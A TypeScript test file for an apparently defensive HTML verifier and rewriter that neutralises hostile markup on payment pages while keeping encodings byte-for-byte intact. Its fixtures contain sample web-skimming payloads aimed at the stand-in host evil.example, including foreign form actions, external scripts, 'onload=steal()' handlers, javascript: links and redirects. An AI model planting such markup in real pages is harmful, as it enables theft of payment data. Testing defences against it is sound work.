import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { VerifyRefusal } from '../../src/errors.js';
import { rewriteDocument, verifyDocument } from '../../src/verify/index.js';
import type { DocumentInput } from '../../src/verify/types.js';
import { htmlInput } from './policy.js';

const SINK = '/_payguard/sink';
const rewrite = (input: DocumentInput) => rewriteDocument(input, verifyDocument(input), { sinkPath: SINK });
const utf8 = (b: Uint8Array) => new TextDecoder().decode(b);
const bytes = (...parts: (string | number[])[]) => Uint8Array.from(parts.flatMap((p) => (typeof p === 'string' ? Array.from(p, (c) => c.charCodeAt(0)) : p)));

describe('rewriting (splice the original bytes, then verify again)', () => {
  it('neutralises each kind of violation and the result re-verifies clean', () => {
    const page =
      '<!doctype html><html><head><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/r">' +
      '<script src="https://evil.example/a.js"></script><script type=module>import "x"</script></head>' +
      '<body onload="steal()"><form action="https://evil.example/c"><button formaction=//evil.example/b>Pay</button></form>' +
      '<iframe src="https://evil.example/f"></iframe><iframe srcdoc="<script>x()</script>"></iframe><object data=//evil.example/o></object>' +
      '<a href="javascript:go()">x</a><link rel=modulepreload href=//evil.example/m.js><svg><set attributeName=href to=x /></svg></body></html>';
    const input = htmlInput(page, { mode: 'rewrite' });
    expect(verifyDocument(input).violations.length).toBeGreaterThan(10);
    const result = rewrite(input);
    expect(result.verified.violations).toEqual([]);
    const out = utf8(result.bytes);
    expect(out).toContain(`<form action="${SINK}">`);
    expect(out).toContain(`formaction="${SINK}"`);
    expect(out).toContain('<script type="payguard/blocked" ></script>');
    expect(out).not.toContain('evil.example/a.js');
    expect(out).toContain('<script type="payguard/blocked">import "x"</script>');
    expect(out).toContain('<iframe src="about:blank">');
    expect(out).not.toContain('onload');
    expect(out).not.toContain('javascript:');
    expect(out).not.toContain('srcdoc');
  });

  it('verifies the rewritten bytes as they are served, charset pinned, even when the rewrite brings a <meta charset> into the prescan window', () => {
    // A long foreign action pushes the meta past the 1,024-byte prescan: the page is read in the
    // policy's default (windows-1252). The sink is shorter, so after the rewrite the meta is inside
    // the window; the proxy pins windows-1252 in Content-Type, and the rewritten page must be
    // verified in it (under the storefront's bare text/html it would read as invalid UTF-8).
    const action = `https://evil.example/${'p'.repeat(1100)}`;
    const page = bytes(`<!doctype html><form action="${action}"><button>Pay</button></form><meta charset="utf-8"><p>Caf`, [0xe9], '</p>');
    const input = htmlInput(page, { mode: 'rewrite', headers: [['content-type', 'text/html']] });
    const verified = verifyDocument(input);
    expect(verified.encoding).toBe('windows-1252');
    const result = rewrite(input);
    expect(result.verified.encoding).toBe('windows-1252');
    expect(result.verified.violations).toEqual([]);
    expect(utf8(result.bytes)).toContain(`<form action="${SINK}">`);
  });

  it('a neutralised SVG script loses href and xlink:href (Chromium fetches them even from an inert script)', () => {
    const page =
      '<!doctype html><body><svg><script href="https://evil.example/s.js"></script>' +
      '<script xlink:href="https://evil.example/x.js"></script></svg></body>';
    const result = rewrite(htmlInput(page, { mode: 'rewrite' }));
    expect(result.verified.violations).toEqual([]);
    const out = utf8(result.bytes);
    expect(out).not.toContain('evil.example');
    expect(out.match(/type="payguard\/blocked"/g)).toHaveLength(2);
  });

  it('rewrite keeps untouched bytes identical', () => {
    const before = '<!doctype html>\r\n<p class="a">Grüße &amp; 😀</p>\n<form   action = \'https://evil.example/c\'  method=post>';
    const after = '\r\n<input name=cc value="é"></form><script src="https://js.gateway.example/ok.js"></script>';
    const input = htmlInput(before + after, { mode: 'rewrite' });
    const out = utf8(rewrite(input).bytes);
    expect(out).toBe(`<!doctype html>\r\n<p class="a">Grüße &amp; 😀</p>\n<form   action="${SINK}"  method=post>` + after);
  });

  it('a clean page comes back as the very same bytes', () => {
    const input = htmlInput('<form action="https://pay.gateway.example/charge"></form>', { mode: 'rewrite' });
    expect(rewrite(input).bytes).toBe(input.bytes);
  });

  it('rewritten Shift_JIS page stays Shift_JIS', () => {
    const sjis = [0x83, 0x65, 0x83, 0x58, 0x83, 0x67]; // テスト
    const page = bytes('<p>', sjis, '</p><form action="https://evil.example/', sjis, '" title="', sjis, '"><input value="', sjis, '">');
    const input = htmlInput(page, { mode: 'rewrite', headers: [['content-type', 'text/html; charset=Shift_JIS']] });
    const result = rewrite(input);
    expect(result.verified.encoding).toBe('Shift_JIS');
    expect(Array.from(result.bytes)).toEqual(Array.from(bytes('<p>', sjis, `</p><form action="${SINK}" title="`, sjis, '"><input value="', sjis, '">')));
  });

  it('rewritten ISO-2022-JP page keeps its escape sequences and stays verified', () => {
    const ESC = 0x1b;
    const jis = [ESC, 0x24, 0x42, 0x25, 0x46, 0x25, 0x39, ESC, 0x28, 0x42];
    const page = bytes('<meta charset=iso-2022-jp><p>', jis, '</p><a title="', jis, '" onclick="x()">', jis, '</a>');
    const input = htmlInput(page, { mode: 'rewrite', headers: [['content-type', 'text/html']] });
    const result = rewrite(input);
    expect(Array.from(result.bytes)).toEqual(Array.from(bytes('<meta charset=iso-2022-jp><p>', jis, '</p><a title="', jis, '" >', jis, '</a>')));
  });

  it('a UTF-16LE page is rewritten in UTF-16', () => {
    const page = new Uint8Array([0xff, 0xfe, ...Buffer.from('<p>é</p><form action="//evil.example/">', 'utf16le')]);
    const result = rewrite(htmlInput(page, { mode: 'rewrite' }));
    expect(Buffer.from(result.bytes.subarray(2)).toString('utf16le')).toBe(`<p>é</p><form action="${SINK}">`);
    expect(result.verified.encoding).toBe('UTF-16LE');
  });

  it('findings in noscript and relaxed-select content are rewritten in place', () => {
    const input = htmlInput('<noscript><form action=//evil.example/n></form></noscript><select><div><img src=x onerror=y()></div></select>', { mode: 'rewrite' });
    expect(utf8(rewrite(input).bytes)).toBe(`<noscript><form action="${SINK}"></form></noscript><select><div><img src=x ></div></select>`);
  });

  it('rewrite re-verifies: what cannot be neutralised in place is refused', () => {
    // The onload comes from a second <body> tag, merged into the first by the parser: there is no
    // attribute in the first tag to remove, so the output still has it and the rewrite is refused.
    const input = htmlInput('<body><div></div><body onload="steal()">', { mode: 'rewrite' });
    expect(() => rewrite(input)).toThrow(VerifyRefusal);
    try {
      rewrite(input);
    } catch (e) {
      expect((e as VerifyRefusal).reason).toBe('rewrite-unverifiable');
    }
  });

  it('header violations stay in the result for the proxy to block', () => {
    const input = htmlInput('<p>x', { mode: 'rewrite', headers: [['content-type', 'text/html'], ['location', 'https://evil.example/']] });
    const result = rewrite(input);
    expect(result.verified.violations.map((f) => f.kind)).toEqual(['location-header']);
  });
});

describe('rewrite property', () => {
  // Random Japanese text in legacy encodings around a foreign form: the rewrite replaces exactly
  // the action attribute and nothing else, whatever multibyte sequences surround it.
  const SJIS = [[0x83, 0x65], [0x83, 0x58], [0x82, 0xa8], [0x88, 0x9f], [0x41]];
  const EUCJP = [[0xa5, 0xc6], [0xa5, 0xb9], [0xa4, 0xaa], [0xb0, 0xa1], [0x41]];
  const ESC = 0x1b;
  const segment = (chars: number[][]) => fc.array(fc.constantFrom(...chars), { maxLength: 12 }).map((cs) => cs.flat());

  it.each([
    ['Shift_JIS', SJIS],
    ['EUC-JP', EUCJP],
  ])('%s: untouched bytes stay identical around a rewritten action', (charset, chars) => {
    fc.assert(
      fc.property(segment(chars), segment(chars), segment(chars), (a, b, c) => {
        const head = bytes('<p>', a, '</p><form title="', b, '" action="https://evil.example/x" class=c>');
        const tail = bytes(c, '</form>');
        const input = htmlInput(Uint8Array.from([...head, ...tail]), { mode: 'rewrite', headers: [['content-type', `text/html; charset=${charset}`]] });
        const expected = bytes('<p>', a, '</p><form title="', b, `" action="${SINK}" class=c>`, c, '</form>');
        expect(Array.from(rewrite(input).bytes)).toEqual(Array.from(expected));
      }),
      { numRuns: 60 },
    );
  });

  it('ISO-2022-JP: escape sequences before and inside attributes survive', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom([0x25, 0x46], [0x25, 0x39], [0x30, 0x21]), { minLength: 1, maxLength: 8 }), (pairs) => {
        const jis = [ESC, 0x24, 0x42, ...pairs.flat(), ESC, 0x28, 0x42];
        const page = bytes('<p>', jis, '</p><form title="', jis, '" action="//evil.example/" >', jis, '</form>');
        const input = htmlInput(page, { mode: 'rewrite', headers: [['content-type', 'text/html; charset=iso-2022-jp']] });
        const expected = bytes('<p>', jis, '</p><form title="', jis, `" action="${SINK}" >`, jis, '</form>');
        expect(Array.from(rewrite(input).bytes)).toEqual(Array.from(expected));
      }),
      { numRuns: 40 },
    );
  });
});
